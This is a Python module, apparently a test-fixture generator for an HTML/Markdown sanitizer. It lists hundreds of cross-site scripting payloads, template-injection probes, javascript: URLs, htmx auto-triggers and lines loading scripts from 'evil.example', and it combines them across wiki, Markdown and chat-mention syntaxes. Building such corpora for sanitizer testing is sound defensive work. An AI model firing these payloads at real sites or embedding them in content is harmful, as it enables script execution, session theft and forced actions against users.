"""Texts that would run, load or lead astray if any page took them for markup: vectors times carriers times breakouts."""

from collections.abc import Iterable, Iterator

JS, EVIL = "alert(1)", "http://evil.example"
HANDLERS = (
    f"<img src=x onerror={JS}>",
    f"<svg onload={JS}>",
    f"<svg/onload={JS}//",
    f"<body onload={JS}>",
    f"<details open ontoggle={JS}>x</details>",
    f"<video src=x onerror={JS}>",
    f"<audio src=x onerror={JS}>",
    f"<input autofocus onfocus={JS}>",
    f"<select autofocus onfocus={JS}>",
    f"<textarea autofocus onfocus={JS}>",
    f"<marquee onstart={JS}>",
    f"<style onload={JS}></style>",
    f"<b onmouseover={JS}>x</b>",
    f"<p onpointerenter={JS} tabindex=1>x</p>",
    f"<a id=x onfocus={JS} href=#x autofocus>x</a>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<xss contenteditable onblur={JS} autofocus>",
    f"<object data=x onerror={JS}>",
    f"<iframe srcdoc='<script>{JS}</script>'></iframe>",
    f"<ſcript>{JS}</ſcript>",
    f"<IMG SRC=x OnErRoR={JS}>",
    f"<img\tsrc=x\nonerror={JS}>",
    f"<img src=x onerror\n=\n{JS}>",
    "<img src=x onerror=&#97;lert(1)>",
    f"<<img src=x onerror={JS}>>",
    f"<img src=x:x onerror='{JS}'",
    f"<scr<script>ipt>{JS}</script>",
    f"<x style=animation-name:x onanimationend={JS}>",
)
SCRIPTS = (
    f"<script>{JS}</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    f"<svg><script>{JS}</script></svg>",
    f"<script/x>{JS}</script >",
    f"<script type=module>import '{EVIL}/x.js'</script>",
    f"<math><mtext><script>{JS}</script></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
    f"<template><script>{JS}</script></template>",
    f'<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={JS}&gt;">',
    f"<svg><style><img src=x onerror={JS}></style></svg>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f"&lt;img src=x onerror={JS}&gt;",
    f"&#60;script&#62;{JS}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{JS}",
    f"\\u003cscript\\u003e{JS}",
    f"%3Cscript%3E{JS}",
    f"\u202e<script>{JS}</script>\u202c",
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e",
    f"<script\u2028>{JS}</script>",
)
LOADS = (
    f"<img src={EVIL}/p.png>",
    f"<img srcset='{EVIL}/p.png 2x'>",
    f"<picture><source srcset={EVIL}/p.png><img></picture>",
    f"<video poster={EVIL}/p.png>",
    f"<audio src={EVIL}/a.mp3 autoplay>",
    f"<link rel=stylesheet href={EVIL}/s.css>",
    f"<link rel=prefetch href={EVIL}/s>",
    f"<iframe src={EVIL}></iframe>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<style>@import '{EVIL}/s.css'</style>",
    f"<p style='background:url({EVIL}/p.png)'>x</p>",
    f"<body background={EVIL}/p.png>",
    f"<table background={EVIL}/p.png><td>x",
    f"<svg><image href={EVIL}/p.png /></svg>",
    f"<svg><use xlink:href={EVIL}/s.svg#x /></svg>",
    f"<input type=image src={EVIL}/p.png>",
    f"<form action={EVIL}><button autofocus>x</button></form>",
    f"<button formaction={EVIL}>x</button>",
    f"<a href=/ ping={EVIL}>x</a>",
    f"<frameset><frame src={EVIL}></frameset>",
    f"<portal src={EVIL}></portal>",
    f"<track src={EVIL}/t.vtt>",
    f"<fencedframe src={EVIL}></fencedframe>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
)
OURS = (
    "<x hx-get=/logout hx-trigger=load>x</x>",
    f"<x hx-get={EVIL} hx-trigger=load>x</x>",
    f"<x hx-on:load={JS}>x</x>",
    f"<x hx-on--load={JS}>x</x>",
    "<x hx-post=/do/x hx-trigger='every 1s'>x</x>",
    f"<x data-hx-get={EVIL} data-hx-trigger=load>x</x>",
    "<x hx-ext=x hx-swap-oob=true id=main>x</x>",
    "<button data-opens=keyboard-help autofocus>x</button>",
    f"<input data-choose={EVIL} autofocus>",
    "<p data-region id=sidebar>x</p>",
    f"<p hx-vals='js:x:{JS}' hx-get=/ hx-trigger=load>x</p>",
    f"<p data-src={EVIL} data-href={EVIL} data-live={EVIL}>x</p>",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% raw %}",
    "{{ self.__init__.__globals__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[${7*7}]]",
)
BREAKOUTS = (
    '">',
    "'>",
    "'\">",
    "`>",
    "/>",
    "</p>",
    "</a>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</noscript>",
    "</svg>",
    "</select>",
    "-->",
    "]]>",
)
BROKEN = (f"<img src=x onerror={JS}>", f"<svg onload={JS}>", f"<script>{JS}</script>")
ATTRIBUTES = (
    f'" onmouseover="{JS}',
    f"' onmouseover='{JS}",
    f'" autofocus onfocus="{JS}',
    f"x onerror={JS} ",
    f'" style="background:url({EVIL}/p.png)',
    f'" hx-get="{EVIL}" hx-trigger="load',
    f"`onload={JS}`",
    f'\\" onload={JS}',
)
ADDRESSES = (
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"java\tscript:{JS}",
    f"java\nscript:{JS}",
    f" javascript:{JS}",
    f"\x01javascript:{JS}",
    f"javascript&colon;{JS}",
    f"&#106;avascript:{JS}",
    f"&#x6A;avascript&#x3A;{JS}",
    f"%6aavascript:{JS}",
    f"javascript://%0a{JS}",
    f"javascript:/*-/*`/*\\`/*'/*\"/**/{JS}//",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>{JS}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={JS}>",
    f"feed:javascript:{JS}",
    f"view-source:javascript:{JS}",
    "//evil.example/x",
    "\\\\evil.example\\x",
    f'{EVIL}/" onmouseover="{JS}',
    f"{EVIL}/<img src=x onerror={JS}>",
    f"https://javascript:{JS}@evil.example/",
)
CARRIERS = (
    "{}",
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    "<{}|x>",
    "[x]({})",
    "![x]({})",
    "[x|{}]",
    "!{}!",
    "[x]: {}",
)
WIKI = (
    f"{{html}}<script>{JS}</script>{{html}}",
    f"{{color:red;background:url({EVIL}/p.png)}}x{{color}}",
    f'{{panel:title="><img src=x onerror={JS}>}}x{{panel}}',
    f'{{code:title="><svg onload={JS}>}}x{{code}}',
    f"{{code:javascript}}</pre><script>{JS}</script>{{code}}",
    f"{{noformat}}</pre><img src=x onerror={JS}>{{noformat}}",
    f"{{quote}}<img src=x onerror={JS}>{{quote}}",
    f'[~"><img src=x onerror={JS}>]',
    f"h1. <img src=x onerror={JS}>",
    f"||<svg onload={JS}>||\n|<script>{JS}</script>|",
    f'{{anchor:"><img src=x onerror={JS}>}}',
    f"!{EVIL}/p.png|onerror={JS}!",
    f'{{color:"><img src=x onerror={JS}>}}x{{color}}',
    f"{{expand:<svg onload={JS}>}}x{{expand}}",
    f'[^x"><img src=x onerror={JS}>.png]',
    f"[<img src=x onerror={JS}>|{EVIL}]",
    "{color:#ff0000}red{color}",
    "{bgcolor:#ff0000}red{bgcolor}",
)
MARKDOWN = (
    f"`<img src=x onerror={JS}>`",
    f"```<script>{JS}</script>```",
    f'```"><svg onload={JS}>\nx\n```',
    f"> <img src=x onerror={JS}>",
    f"*<b onclick={JS}>x</b>*",
    f"- <svg onload={JS}>",
    f"[<img src=x onerror={JS}>]({EVIL})",
    f'[x]({EVIL} "onmouseover={JS} \\"><svg onload={JS}>")',
    f'<{EVIL}/"onmouseover={JS}>',
    f"|<svg onload={JS}>|\n|-|\n|<script>{JS}</script>|",
    f"![<svg onload={JS}>]({EVIL}/p.png)",
    f"~~<svg onload={JS}>~~",
    f"1. <script>{JS}</script>",
)
CHAT = (
    f"<@U0BO|<svg onload={JS}>>",
    f'<#C0GENERAL01|"><script>{JS}</script>>',
    f"<!here|<img src=x onerror={JS}>>",
    f'<!subteam^S0X|"><svg onload={JS}>>',
    f'<!date^1772438400^"><svg onload={JS}>^{EVIL}|x>',
    f':"><img src=x onerror={JS}>:',
    f'<mailto:a@b.c?"onmouseover={JS}|x>',
    f'<tel:1"onmouseover={JS}|x>',
    f'<@U0"onmouseover={JS}>',
    f'<#C0"onmouseover={JS}>',
    f"&lt;@U0BO|<svg onload={JS}>&gt;",
)


def _all() -> Iterator[str]:
    for group in (HANDLERS, SCRIPTS, LOADS, OURS, TEMPLATES, ATTRIBUTES, WIKI, MARKDOWN, CHAT):
        yield from group
    yield from (before + vector for before in BREAKOUTS for vector in BROKEN)
    yield from (carrier.format(address) for carrier in CARRIERS for address in ADDRESSES)


PAYLOADS = tuple(dict.fromkeys(_all()))


def packs(limit: int, payloads: Iterable[str] = PAYLOADS, between: str = "\n\n") -> list[str]:
    """All payloads that fit, in as few texts of at most `limit` characters as come of taking them in order."""
    out: list[str] = []
    for payload in payloads:
        if out and len(out[-1]) + len(between) + len(payload) <= limit:
            out[-1] += between + payload
        elif len(payload) <= limit:
            out.append(payload)
    return out
